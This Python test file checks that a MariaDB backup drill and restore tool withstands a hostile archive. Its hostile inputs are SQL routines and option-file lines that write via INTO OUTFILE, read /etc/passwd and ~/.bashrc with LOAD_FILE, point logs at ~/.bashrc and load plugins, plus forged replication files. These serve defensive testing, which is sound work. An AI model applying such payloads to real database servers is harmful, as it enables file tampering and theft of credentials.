"""Options, files of replication and routines that a thief puts into an archive lead nowhere: nothing leaves, nothing is
written outside of the folder of the drill or the restore.
"""

import shutil
import socket
import subprocess
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from lab import mariadb
from tasks.mariadb import drill, unpack
from tasks.mariadb.drill import DrillError, DrillOptions
from tasks.remote.script import Stream
from tests.integration.mariadb.conftest import Running, _fresh
from tests.integration.mariadb.hostile.walls import PEOPLE, WALLS, chunk, person
from tests.integration.mariadb.test_drill import content, packed, saved

ROUTINES = """
SET GLOBAL log_bin_trust_function_creators = 1;
CREATE DATABASE evil;
DELIMITER //
CREATE DEFINER=root@localhost FUNCTION evil.dumpfile() RETURNS INT BEGIN
  SELECT 'evil' INTO DUMPFILE '{home}/dump'; RETURN 1;
END //
CREATE DEFINER=root@localhost FUNCTION evil.beside() RETURNS INT BEGIN
  SELECT 'evil' INTO OUTFILE '{beside}/beside'; RETURN 1;
END //
CREATE DEFINER=root@localhost FUNCTION evil.init_connect() RETURNS INT BEGIN
  SET GLOBAL init_connect = "SELECT 'evil' INTO OUTFILE '{home}/connected'"; RETURN 1;
END //
CREATE DEFINER=root@localhost FUNCTION evil.secure() RETURNS INT BEGIN
  SET GLOBAL secure_file_priv = ''; RETURN 1;
END //
CREATE DEFINER=root@localhost FUNCTION evil.slow() RETURNS INT BEGIN
  SET GLOBAL slow_query_log_file = '{home}/.bashrc'; SET GLOBAL slow_query_log = 1; RETURN 1;
END //
CREATE DEFINER=root@localhost FUNCTION evil.home() RETURNS INT BEGIN
  RETURN LENGTH(LOAD_FILE('{home}/.bashrc')) > 0;
END //
CREATE DEFINER=root@localhost FUNCTION evil.shadow() RETURNS INT BEGIN
  RETURN LENGTH(LOAD_FILE('/etc/passwd')) > 0;
END //
DELIMITER ;
INSERT INTO mysql.servers (Server_name, Host, Db, Username, Password, Port, Socket, Wrapper, Owner)
  VALUES ('evil', '127.0.0.1', 'x', 'x', 'x', {port}, '', 'mysql', '');
"""
QUERIES = {
    "SELECT evil.dumpfile()": "denied|FILE",
    "SELECT evil.beside()": "denied|FILE",
    "SELECT evil.init_connect()": "SUPER|denied|privilege",
    "SELECT evil.secure()": "read only",
    "SELECT evil.slow()": "SUPER|denied|privilege",
    "SELECT evil.home()": "answers NULL|denied|FILE",
    "SELECT evil.shadow()": "answers NULL|denied|FILE",
    "CREATE SERVER s FOREIGN DATA WRAPPER mysql OPTIONS (HOST '127.0.0.1', PORT {port})": "denied",
    "CHANGE MASTER TO master_host = '127.0.0.1', master_port = {port}": "denied",
    "SELECT 1 = (SELECT @@secure_file_priv <> '' AND @@init_connect = '' AND @@skip_networking = 1)": "",
}
# What an option file could have a server, or mariadb-backup itself, do.
SERVERS = """
[mysqld]
init_connect=SELECT 'evil' INTO OUTFILE '{home}/connected'
init_file={home}/.ssh/id_ed25519
secure_file_priv=
general_log=1
general_log_file={home}/.bashrc
slow_query_log=1
slow_query_log_file={home}/.bashrc
log_error={home}/error
log_bin={home}/log
pid_file={home}/pid
tmpdir={home}
skip_networking=0
port={port}
bind_address=0.0.0.0
socket={home}/s
plugin_dir={home}
event_scheduler=ON
skip_grant_tables
[client]
init-command=SELECT 'evil' INTO OUTFILE '{home}/client'
"""
FOLDERS = """
[mysqld]
innodb_data_home_dir={home}
innodb_log_group_home_dir={home}
innodb_undo_directory={home}
innodb_tmpdir={home}
"""
LOADED = """
[mysqld]
plugin_load_add=evil.so
plugin_dir={home}
core_file
"""
INCLUDED = """
!includedir {home}
!include {home}/.bashrc
"""
MASTER = "33\nbinlog.000001\n4\n127.0.0.1\nroot\nx\n{port}\n1\n0\n\n\n\n\n\n0\n1800.000\n\n0\n\n\n0\nusing_gtid=1\nEND_MARKER\n"
RELAY = "5\n./relay-bin.000001\n4\nbinlog.000001\n4\n0\n"
REPLICATION = {
    "master.info": MASTER, "relay-log.info": RELAY, "multi-master.info": "evil\n", "master-evil.info": MASTER,
    "relay-log-evil.info": RELAY, "ddl_recovery.log": "evil", "shop-ddl-recovery.log": "evil",
    "binlog.index": "/etc/hosts\n",
}  # fmt: skip


@pytest.fixture(scope="module")
def hostile(filled: Path) -> Iterator[tuple[Path, int]]:
    """A backup of a server whose owner is a thief, who means the home in its folder; and the port that he listens at."""
    beside = Path(tempfile.mkdtemp(prefix="cb-hostile-", dir="/tmp"))
    beside.chmod(0o1777)
    maker = _fresh(filled)
    running: Running = next(maker)
    with socket.create_server(("127.0.0.1", 0)) as thief:
        thief.settimeout(0)
        port = int(thief.getsockname()[1])
        try:
            mariadb.query(running.server, ROUTINES.format(home=beside / "home", beside=beside, port=port))
            file = saved(running, beside / "backup")
            file.chmod(0o644)
            yield file, port
            with pytest.raises(BlockingIOError):  # nobody ever called
                thief.accept()
        finally:
            next(maker, None)
            shutil.rmtree(beside)


@contextmanager
def untouched(beside: Path) -> Iterator[None]:
    """See that nothing came into a folder, beside what may come."""
    before = sorted(beside.iterdir())
    yield
    assert sorted(beside.iterdir()) == before


@PEOPLE
def test_routines_of_the_archive_write_read_and_reach_nothing(
    who: str, hostile: tuple[Path, int], folder: Path
) -> None:
    backup, port = hostile
    with untouched(backup.parent):
        try:
            with person(backup.parent, who) as (host, _):
                for query, refusal in QUERIES.items():
                    options = DrillOptions(1000, (query.format(port=port),), str(folder))
                    if not refusal:
                        assert drill.run(host, content(backup), options).walls == WALLS[who]
                        continue
                    with pytest.raises(DrillError, match=refusal):
                        drill.run(host, content(backup), options)
        finally:
            shutil.rmtree(backup.parent / "home")


def with_options(backup: Path, place: Path, text: str) -> Stream:
    """Return the backup's stream with further lines in the option file that mariadb-backup leaves in it."""
    place.mkdir()
    with backup.open("rb") as stream:
        subprocess.run(("mbstream", "-x", "-C", place), stdin=stream, check=True)
    (place / "cloudbackup_padding").unlink()
    with (place / "backup-my.cnf").open("a") as file:
        file.write(text)
    stream_file = packed(place)
    stream_file.chmod(0o644)
    return content(stream_file)


@pytest.mark.parametrize("text", [SERVERS, FOLDERS, LOADED, INCLUDED], ids=["server", "folders", "loaded", "included"])
def test_options_of_the_archive_have_no_say(text: str, hostile: tuple[Path, int], folder: Path) -> None:
    """It may be refused; where it is not, the drill is as good as any."""
    backup, port = hostile
    with untouched(backup.parent):
        try:
            with person(backup.parent, "root") as (host, home):
                stream = with_options(backup, folder / "evil", text.format(home=home, port=port))
                query = "SELECT 1 = (SELECT @@secure_file_priv <> '' AND @@init_connect = '' AND @@general_log = 0"
                query += " AND @@skip_networking = 1 AND @@event_scheduler <> 'ON')"
                done = drill.run(host, stream, DrillOptions(1000, (query,), str(folder)))
                assert done.walls == WALLS["root"]
        finally:
            shutil.rmtree(backup.parent / "home")


def test_no_replication_that_the_archive_sets_up_begins(hostile: tuple[Path, int], folder: Path) -> None:
    """Neither in the drill, nor when somebody starts a server of his own on what was restored."""
    backup, port = hostile
    texts = {name: text.format(port=port) for name, text in REPLICATION.items()}
    stream = folder / "stream"
    stream.write_bytes(b"".join(chunk(name, text.encode()) for name, text in texts.items()) + backup.read_bytes())
    with untouched(backup.parent):
        try:
            with person(backup.parent, "root") as (host, _):
                query = "SELECT COUNT(*) = 0 FROM information_schema.PROCESSLIST WHERE USER = 'system user'"
                query += " AND COMMAND LIKE 'Slave%'"
                drill.run(host, content(stream), DrillOptions(1000, (query,), str(folder)))
                unpacked = unpack.to_directory(host, content(stream), str(folder / "new"))
                assert unpacked.walls == WALLS["root"]
                assert not [name for name in texts if (folder / "new" / name).exists()]
                with mariadb.serving(folder / "new") as copy:
                    assert mariadb.query(copy, "SHOW ALL SLAVES STATUS") == []
        finally:
            shutil.rmtree(backup.parent / "home")
